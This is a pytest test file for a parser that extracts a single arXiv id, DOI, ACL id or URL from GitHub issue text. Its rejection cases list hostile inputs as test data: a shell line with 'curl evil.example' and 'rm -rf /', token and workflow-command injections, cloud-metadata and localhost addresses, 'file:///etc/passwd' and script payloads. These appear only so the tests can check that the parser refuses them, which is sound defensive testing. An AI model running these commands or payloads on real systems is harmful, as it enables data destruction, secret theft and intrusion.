"""What is read of an issue: one identifier or address, and nothing else."""

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.errors import ForgeError
from generator.forge.issue import Event, read_event

FORM = "### Paper\n\n{}\n\n### Anything else\n\n10.1145/999 https://example.org/other\n"


@pytest.mark.parametrize(
    ("text", "paper"),
    [
        ("2310.16441", "arxiv:2310.16441"),
        ("arXiv: 2310.16441v2.", "arxiv:2310.16441"),
        ("please add https://arxiv.org/abs/2310.16441v1 , thanks!", "arxiv:2310.16441"),
        ("<https://huggingface.co/papers/2310.16441>", "arxiv:2310.16441"),
        ("2310.16441\r\nhttps://doi.org/10.48550/arXiv.2310.16441", "arxiv:2310.16441"),
        ("`10.1145/3605943`", "doi:10.1145/3605943"),
        ("(doi:10.1016/0021-9991(79)90051-2)", "doi:10.1016/0021-9991(79)90051-2"),
        ("see 10.1016/0021-9991(79)90051-2).", "doi:10.1016/0021-9991(79)90051-2"),
        ("https://aclanthology.org/2020.emnlp-main.589/", "acl:2020.emnlp-main.589"),
        ("https://openreview.net/forum?id=abc&x=%20", "https://openreview.net/forum?id=abc&x=%20"),
        ("http://papers.example.org", "http://papers.example.org"),
    ],
)
def test_paper(text: str, paper: str) -> None:
    """An identifier or an address is found as people paste it, in a form or without one."""
    assert Event(1, text).paper() == paper
    assert Event(1, FORM.format(text)).paper() == paper


@pytest.mark.parametrize(
    "text",
    [
        "",
        "_No response_",
        "Attention Is All You Need",
        "$(curl evil.example) `id` ; rm -rf / #",
        "${{ secrets.GITHUB_TOKEN }} ${{ github.token }}",
        "::set-output name=paper::2310.16441\n::stop-commands::x",
        "10.1145/${{github.token}} 10.1145/$(id) 10.1145/`id` 10.1145/a|b",
        "https://127.0.0.1/x http://localhost/ http://[::1]/ https://10.0.0.1/ http://a.b:80/",
        "http://user@example.org/ http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd ftp://example.org/x javascript:alert(1)",
        "https://example.org/<script> https://example.org/'x' https://example.org/${x}",
        "\u202e2310.16441 https://example.org/\u202egpj.exe https://exаmple.org/",
        "https://example.org/" + "a" * 400,
        "10.1145/" + "9" * 400,
        "--help -o/etc/passwd @file",
        "\0" * 50 + "\x1b[31m",
    ],
)
def test_nothing(text: str) -> None:
    """A text that names no paper is refused, and the message repeats nothing of it."""
    for shown in (text, FORM.format(text)):
        with pytest.raises(ForgeError) as refused:
            Event(1, shown).paper()
        assert str(refused.value) == (
            "no paper is named; give an arXiv id, a DOI, or the address of its page"
        )


def test_several() -> None:
    """Two papers are two issues: which one is meant is not guessed."""
    with pytest.raises(ForgeError, match="2 papers are named; name one at a time"):
        Event(1, "2310.16441 and 10.1145/3605943").paper()


def test_very_long() -> None:
    """A hostile length takes no time, and what is far down is not read."""
    assert Event(1, "2310.16441\n" + "x " * 50_000 + "10.1145/1").paper() == "arxiv:2310.16441"
    with pytest.raises(ForgeError):
        Event(1, "10.1" * 25_000).paper()
    with pytest.raises(ForgeError):
        Event(1, "https://" + "a-" * 50_000).paper()


@settings(max_examples=40)
@given(st.text(max_size=60) | st.from_regex(r"(https?://|10\.1/|arxiv:).{0,40}"))
def test_any_text(text: str) -> None:
    """Whatever is found has no sign that a shell, YAML, Markdown or a workflow obeys."""
    try:
        paper = Event(1, text).paper()
    except ForgeError:
        return
    assert paper.isascii()
    assert paper.isprintable()
    assert not set(paper) & set("\"'`$\\<>{}[]|^ ")
    assert paper.startswith(("arxiv:", "doi:", "acl:", "http://", "https://"))


def write(folder: Path, event: object) -> Path:
    """Write the file of an event."""
    path = folder / "event.json"
    path.write_text(json.dumps(event))
    return path


class TestEvent:
    def test_issue(self, tmp_path: Path) -> None:
        """An issue names the branch by its number."""
        issue = {"number": 12, "title": "$(id)", "body": "2310.16441", "user": {"login": "x"}}
        event = read_event(write(tmp_path, {"action": "opened", "issue": issue}))
        assert event == Event(12, "2310.16441")
        assert event.branch() == "openshelf/issue-12"
        assert read_event(write(tmp_path, {"issue": {"number": 1, "body": None}})) == Event(1, "")

    def test_by_hand(self, tmp_path: Path) -> None:
        """A workflow that is started by hand names the branch by the paper."""
        event = read_event(write(tmp_path, {"inputs": {"paper": "arXiv:2310.16441"}}))
        assert event.branch() == "openshelf/add-arxiv-2310-16441"
        long = Event(0, "https://example.org/" + "a-" * 100).branch()
        assert len(long) < 100
        assert not long.endswith("-")

    @pytest.mark.parametrize(
        "event", [[], 1, {}, {"issue": {"number": "1", "body": ""}}, {"issue": {"number": -1}}]
    )
    def test_no_event(self, tmp_path: Path, event: object) -> None:
        """A file that is about no issue is named."""
        with pytest.raises(ForgeError, match="is about no issue"):
            read_event(write(tmp_path, event))

    def test_no_json(self, tmp_path: Path) -> None:
        """A file that is no event, or is missing, is named too."""
        for text in ("", "{", "[" * 100_000):
            (tmp_path / "event.json").write_text(text)
            with pytest.raises(ForgeError, match="is not the file of an event"):
                read_event(tmp_path / "event.json")
        with pytest.raises(ForgeError, match="FileNotFoundError"):
            read_event(tmp_path / "missing.json")
